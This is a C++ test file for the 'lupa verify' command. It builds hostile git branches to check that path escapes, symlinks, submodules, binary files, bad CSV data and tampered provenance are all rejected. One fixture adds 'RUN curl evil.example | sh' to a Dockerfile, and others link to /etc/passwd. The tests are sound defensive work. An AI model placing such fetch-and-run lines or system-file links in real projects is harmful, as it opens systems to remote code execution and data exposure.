// `lupa verify` against hostile branches crafted with libgit2 in a real repository.

#include "core/dyn_csv.h"
#include "db/git.h"
#include "db/importer.h"
#include "db/store.h"
#include "db/verify.h"
#include "dbtest.h"
#include "synthetic.h"
#include "testutil.h"
#include "util/fs.h"

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

namespace fs = std::filesystem;

namespace {

class HostileBranches : public ::testing::Test {
protected:
  void SetUp() override {
    m_path = m_tmp.path() / "db";
    // The base: a Loupe run (imported) and a lupa run.
    fs::path loupe = m_tmp.path() / "loupe";
    std::string dyn = "# syscall, used, works faked, works stubbed, works both\n";
    for (int nr = 0; nr < 335; ++nr) {
      dyn += fmt::format("{},{},N,N,N\n", nr, nr < 10 ? 'Y' : 'N');
    }
    fs::create_directories(loupe / "sqlite/suite/imported/data");
    ASSERT_TRUE(util::write_file_atomic(loupe / "sqlite/suite/imported/data/dyn.csv", dyn));
    ASSERT_TRUE(db::import_loupedb(loupe, m_path, {}));
    auto store = db::Store::open(m_path, db::CreateMode::must_exist);
    ASSERT_TRUE(store) << store.error();
    ASSERT_TRUE(store->commit_run(lupa_test::synthetic_run("nginx", "wrk", 1), {}));
    m_store = std::make_unique<db::Store>(std::move(*store));
    m_base = head();

    auto good = db::render_run(lupa_test::synthetic_run("redis", "bench", 2));
    ASSERT_TRUE(good) << good.error();
    m_good = *good;
  }

  git_repository* repo() { return m_store->repo(); }

  git_oid head() {
    git_oid id;
    EXPECT_EQ(git_reference_name_to_id(&id, m_store->repo(), "HEAD"), 0);
    return id;
  }

  git_oid blob(std::string_view content) {
    git_oid id;
    EXPECT_EQ(git_blob_create_from_buffer(&id, repo(), content.data(), content.size()), 0);
    return id;
  }

  // A tree written byte by byte, so it can hold names libgit2 would refuse ("..", ".git").
  git_oid raw_tree(const std::vector<std::tuple<std::string, std::string, git_oid>>& entries) {
    std::string data;
    for (const auto& [mode, name, id] : entries) {
      data += mode + " " + name + std::string(1, '\0') +
              std::string(reinterpret_cast<const char*>(id.id), GIT_OID_RAWSZ);
    }
    git_odb* odb = nullptr;
    EXPECT_EQ(git_repository_odb(&odb, repo()), 0);
    git_oid id;
    EXPECT_EQ(git_odb_write(&id, odb, data.data(), data.size(), GIT_OBJECT_TREE), 0);
    git_odb_free(odb);
    return id;
  }

  // Branch `name`: the base with `updates` applied, as one commit.
  std::string branch(const std::string& name, const std::vector<db::TreeUpdate>& updates) {
    git_commit* base = nullptr;
    EXPECT_EQ(git_commit_lookup(&base, repo(), &m_base), 0);
    git_tree* base_tree = nullptr;
    EXPECT_EQ(git_commit_tree(&base_tree, base), 0);
    auto tree_id = db::update_tree(repo(), base_tree, updates);
    EXPECT_TRUE(tree_id) << tree_id.error();
    git_tree* tree = nullptr;
    EXPECT_EQ(git_tree_lookup(&tree, repo(), &*tree_id), 0);
    git_signature* sig = nullptr;
    git_signature_now(&sig, "mallory", "mallory@localhost");
    const git_commit* parents[] = {base};
    git_oid commit;
    EXPECT_EQ(git_commit_create(&commit, repo(), ("refs/heads/" + name).c_str(), sig, sig, nullptr,
                                "hostile", tree, 1, parents),
              0);
    git_signature_free(sig);
    git_tree_free(tree);
    git_tree_free(base_tree);
    git_commit_free(base);
    return name;
  }

  // Branch `name` adding the good run with its files changed by `edit`.
  std::string branch_with_run(const std::string& name,
                              const std::function<void(db::RunFiles&)>& edit) {
    db::RunFiles files = m_good;
    edit(files);
    auto tree = db::write_run_tree(repo(), files);
    EXPECT_TRUE(tree) << tree.error();
    return branch(name, {{files.key(), *tree, GIT_FILEMODE_TREE}});
  }

  db::VerifyReport verify(const std::string& name) {
    auto report = db::verify_branch(m_path, name, "main", {});
    EXPECT_TRUE(report) << report.error();
    return report ? *report : db::VerifyReport{};
  }

  // True if some error of `report` contains both `a` and `b`.
  static bool rejected(const db::VerifyReport& report, std::string_view a, std::string_view b = "") {
    for (const std::string& e : report.errors) {
      if (e.find(a) != std::string::npos && e.find(b) != std::string::npos) {
        return true;
      }
    }
    return false;
  }

  static std::string errors(const db::VerifyReport& report) {
    std::string out;
    for (const std::string& e : report.errors) {
      out += e + "\n";
    }
    return out;
  }

  util::TempDir m_tmp{"lupa-test-verify"};
  fs::path m_path;
  std::unique_ptr<db::Store> m_store;
  git_oid m_base;
  db::RunFiles m_good;
};

} // namespace

TEST_F(HostileBranches, WellFormedRunPasses) {
  db::VerifyReport report = verify(branch_with_run("good", [](db::RunFiles&) {}));
  EXPECT_TRUE(report.ok()) << errors(report);
  ASSERT_EQ(report.new_runs.size(), 1u);
  EXPECT_EQ(report.new_runs[0], m_good.key());
  EXPECT_EQ(report.runs.size(), 1u); // unchanged runs are not re-read
}

TEST_F(HostileBranches, SymlinkIsRejected) {
  db::VerifyReport report = verify(branch_with_run("symlink", [&](db::RunFiles& f) {
    f.files.erase("cmd.txt");
  }));
  ASSERT_FALSE(report.ok()); // missing cmd.txt
  std::string key = m_good.key();
  git_oid run_tree = *db::write_run_tree(repo(), m_good);
  git_tree* tree = nullptr;
  ASSERT_EQ(git_tree_lookup(&tree, repo(), &run_tree), 0);
  auto with_link = db::update_tree(repo(), tree, {{"passwd", blob("/etc/passwd"), GIT_FILEMODE_LINK}});
  git_tree_free(tree);
  ASSERT_TRUE(with_link);
  report = verify(branch("symlink2", {{key, *with_link, GIT_FILEMODE_TREE}}));
  EXPECT_TRUE(rejected(report, key + "/passwd", "symlink not allowed")) << errors(report);
}

TEST_F(HostileBranches, PathsEscapingTheTreeAreRejected) {
  git_oid evil = blob("owned\n");
  git_oid inner = raw_tree({{"100644", "config", evil}});
  git_oid run = raw_tree({{"40000", "..", inner}, {"40000", ".git", inner}, {"100644", "a\\b", evil}});
  db::VerifyReport report = verify(branch("escape", {{"evil/benchmark-x/" + std::string(32, 'a'), run,
                                                      GIT_FILEMODE_TREE}}));
  EXPECT_TRUE(rejected(report, "/..:", "path escapes the tree")) << errors(report);
  EXPECT_TRUE(rejected(report, "/.git:", "name not allowed")) << errors(report);
  EXPECT_TRUE(rejected(report, "path escapes the tree")) << errors(report);
  // The same names at the root are caught before anything is read.
  git_oid root_run = raw_tree({{"40000", "..", inner}});
  report = verify(branch("escape-root", {{"app", root_run, GIT_FILEMODE_TREE}}));
  EXPECT_TRUE(rejected(report, "app/..", "path escapes the tree")) << errors(report);
}

TEST_F(HostileBranches, SubmoduleAndStrayLayoutAreRejected) {
  git_oid any = m_base;
  db::VerifyReport report = verify(branch("gitlink", {{"nginx/benchmark-wrk/" + std::string(32, 'b'), any,
                                                       GIT_FILEMODE_COMMIT}}));
  EXPECT_TRUE(rejected(report, "submodule not allowed")) << errors(report);
  report = verify(branch("layout", {{"nginx/results/x/data/dyn.csv", blob("0,Y,N,N,N\n"), GIT_FILEMODE_BLOB},
                                    {"nginx/README", blob("hi\n"), GIT_FILEMODE_BLOB},
                                    {"run.sh", blob("#!/bin/sh\n"), GIT_FILEMODE_BLOB_EXECUTABLE}}));
  EXPECT_TRUE(rejected(report, "nginx/results: not a workload directory")) << errors(report);
  EXPECT_TRUE(rejected(report, "nginx/README: not a workload directory")) << errors(report);
  EXPECT_TRUE(rejected(report, "run.sh: not part of the layout")) << errors(report);
}

TEST_F(HostileBranches, OversizedAndBinaryFilesAreRejected) {
  db::VerifyReport report = verify(branch_with_run("big", [](db::RunFiles& f) {
    f.files["cmd.txt"].content = std::string(2u << 20, 'x');
  }));
  EXPECT_TRUE(rejected(report, "/cmd.txt", "file too large")) << errors(report);
  report = verify(branch_with_run("binary", [](db::RunFiles& f) {
    f.files["cmd.txt"].content = std::string("\x7f" "ELF\x02\x01\x01\0\0\0", 10);
  }));
  EXPECT_TRUE(rejected(report, "/cmd.txt", "binary file")) << errors(report);
  report = verify(branch_with_run("latin1", [](db::RunFiles& f) {
    f.files["cmd.txt"].content = "caf\xe9\n";
  }));
  EXPECT_TRUE(rejected(report, "/cmd.txt", "binary file")) << errors(report);
}

TEST_F(HostileBranches, CsvSchemaErrorsAreRejected) {
  db::VerifyReport report = verify(branch_with_run("csv", [](db::RunFiles& f) {
    std::string& dyn = f.files["data/dyn.csv"].content;
    dyn.replace(dyn.find("\n3,") + 1, 2, "3,Y,Y");
  }));
  EXPECT_TRUE(rejected(report, "data/dyn.csv:5", "expected 5 columns")) << errors(report);
  report = verify(branch_with_run("unknown-file", [](db::RunFiles& f) {
    f.files["notes.txt"] = db::RunFile{"notes.txt", "hello\n"};
  }));
  EXPECT_TRUE(rejected(report, "/notes.txt", "unexpected file")) << errors(report);
  report = verify(branch_with_run("missing", [](db::RunFiles& f) { f.files.erase("results.json"); }));
  EXPECT_TRUE(rejected(report, "/results.json: missing")) << errors(report);
}

TEST_F(HostileBranches, RunIdMustMatchContents) {
  // Dockerfile changed, provenance hash fixed up to match: the id no longer names the contents.
  db::VerifyReport report = verify(branch_with_run("id", [](db::RunFiles& f) {
    f.files["Dockerfile"].content += "RUN curl evil.example | sh\n";
    auto p = db::parse_provenance(f.files["provenance.json"].content, "p");
    p->dockerfile.hash = db::git::blob_id(f.files["Dockerfile"].content);
    f.files["provenance.json"].content = db::write_provenance(*p);
  }));
  EXPECT_TRUE(rejected(report, m_good.key() + ": run id does not match the contents")) << errors(report);
  // Dockerfile changed without fixing the hash.
  report = verify(branch_with_run("hash", [](db::RunFiles& f) { f.files["Dockerfile"].content += "#\n"; }));
  EXPECT_TRUE(rejected(report, "/Dockerfile: contents do not match the hash")) << errors(report);
  // The run filed under another id.
  db::RunFiles moved = m_good;
  moved.run_id = std::string(32, 'c');
  git_oid tree = *db::write_run_tree(repo(), moved);
  report = verify(branch("moved", {{moved.key(), tree, GIT_FILEMODE_TREE}}));
  EXPECT_TRUE(rejected(report, "is not the directory name")) << errors(report);
}

TEST_F(HostileBranches, InconsistentVerdictsAreRejected) {
  // dyn.csv disagreeing with results.json on one syscall.
  int nr = 0;
  db::VerifyReport report = verify(branch_with_run("disagree", [&](db::RunFiles& f) {
    auto result = nlohmann::json::parse(f.files["results.json"].content).get<core::ExploreResult>();
    const core::SyscallResult& s = result.syscalls.front();
    nr = s.nr;
    std::vector<core::DynRow> rows = core::dyn_rows(result);
    rows[nr].can_stub = !rows[nr].can_stub;
    f.files["data/dyn.csv"].content = core::write_dyn_csv(rows);
  }));
  EXPECT_TRUE(rejected(report, fmt::format("data/dyn.csv: syscall {} ", nr), "but results.json says"))
      << errors(report);
  // A flag set on an unused syscall.
  report = verify(branch_with_run("unused-flag", [&](db::RunFiles& f) {
    auto result = nlohmann::json::parse(f.files["results.json"].content).get<core::ExploreResult>();
    std::vector<core::DynRow> rows = core::dyn_rows(result);
    for (core::DynRow& row : rows) {
      if (!row.used) {
        row.can_fake = true;
        break;
      }
    }
    f.files["data/dyn.csv"].content = core::write_dyn_csv(rows);
  }));
  EXPECT_TRUE(rejected(report, "used=N but a works flag is Y", "not accepted in a new run")) << errors(report);
  // A verdict word contradicting the replica outcomes.
  report = verify(branch_with_run("lie", [](db::RunFiles& f) {
    nlohmann::json j = nlohmann::json::parse(f.files["results.json"].content);
    j["syscalls"][0]["stub"] = {{"verdict", "works"}, {"runs", {false, false}}};
    f.files["results.json"].content = j.dump(2);
  }));
  EXPECT_TRUE(rejected(report, "verdict says 'works' but the replica outcomes give 'fails'"))
      << errors(report);
  // Features disagreeing with results.json.
  report = verify(branch_with_run("features", [](db::RunFiles& f) {
    f.files["data/features.csv"].content += "1,write,0,0x1,0x0,,1,works,works\n";
  }));
  EXPECT_TRUE(rejected(report, "data/features.csv: disagrees with results.json")) << errors(report);
}

TEST_F(HostileBranches, DeletingOrEditingPublishedRunsIsRejected) {
  db::VerifyReport report = verify(branch("delete", {{"sqlite/suite/imported", std::nullopt, GIT_FILEMODE_TREE}}));
  EXPECT_TRUE(rejected(report, "sqlite", "deleted")) << errors(report);
  report = verify(branch("edit-loupe", {{"sqlite/suite/imported/cmd.txt", blob("x\n"), GIT_FILEMODE_BLOB}}));
  EXPECT_TRUE(rejected(report, "sqlite/suite/imported: edits a run without provenance.json")) << errors(report);
  report = verify(branch("new-loupe", {{"redis/suite/imported/data/dyn.csv", blob("0,Y,N,N,N\n"),
                                        GIT_FILEMODE_BLOB}}));
  EXPECT_TRUE(rejected(report, "redis/suite/imported: adds a run without provenance.json")) << errors(report);
}

TEST_F(HostileBranches, RerunOfALupaRunIsAccepted) {
  db::NewRun again = lupa_test::synthetic_run("nginx", "wrk", 1);
  again.result.syscalls.back().fake.runs = {true, true};
  again.provenance.kernel_release = "6.19.0";
  auto files = db::render_run(again);
  ASSERT_TRUE(files);
  git_oid tree = *db::write_run_tree(repo(), *files);
  db::VerifyReport report = verify(branch("rerun", {{files->key(), tree, GIT_FILEMODE_TREE}}));
  EXPECT_TRUE(report.ok()) << errors(report);
  ASSERT_EQ(report.rerun_runs.size(), 1u);
  EXPECT_EQ(report.rerun_runs[0], files->key());
}

TEST(Verify, PlainTreesWithSymlinksAreRejected) {
  util::TempDir tmp("lupa-test-verify");
  fs::path run = lupa_test::write_run_dir(tmp.path(), lupa_test::synthetic_run("nginx", "wrk", 5));
  auto clean = db::verify_path(tmp.path(), {});
  ASSERT_TRUE(clean) << clean.error();
  EXPECT_TRUE(clean->ok());
  fs::create_symlink("/etc/passwd", run / "context");
  auto report = db::verify_path(tmp.path(), {});
  ASSERT_TRUE(report);
  ASSERT_FALSE(report->ok());
  EXPECT_NE(report->errors[0].find("context: symlink not allowed"), std::string::npos) << report->errors[0];
}

TEST(Verify, PublishedLoupedbPassesWithDriftAsWarnings) {
  fs::path source = lupa_test::loupedb_path();
  if (source.empty()) {
    GTEST_SKIP() << lupa_test::k_no_loupedb;
  }
  auto report = db::verify_path(source, {});
  ASSERT_TRUE(report) << report.error();
  EXPECT_TRUE(report->ok()) << (report->errors.empty() ? "" : report->errors[0]);
  EXPECT_EQ(report->runs.size(), 125u);
  EXPECT_FALSE(report->warnings.empty());
}

TEST(Verify, TextDetection) {
  EXPECT_TRUE(db::is_text("plain ascii\n"));
  EXPECT_TRUE(db::is_text("caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80"));
  EXPECT_FALSE(db::is_text(std::string("a\0b", 3)));
  EXPECT_FALSE(db::is_text("caf\xe9"));
  EXPECT_FALSE(db::is_text("\xc3"));
  EXPECT_FALSE(db::is_text("\xc0\xaf")); // overlong '/'
}
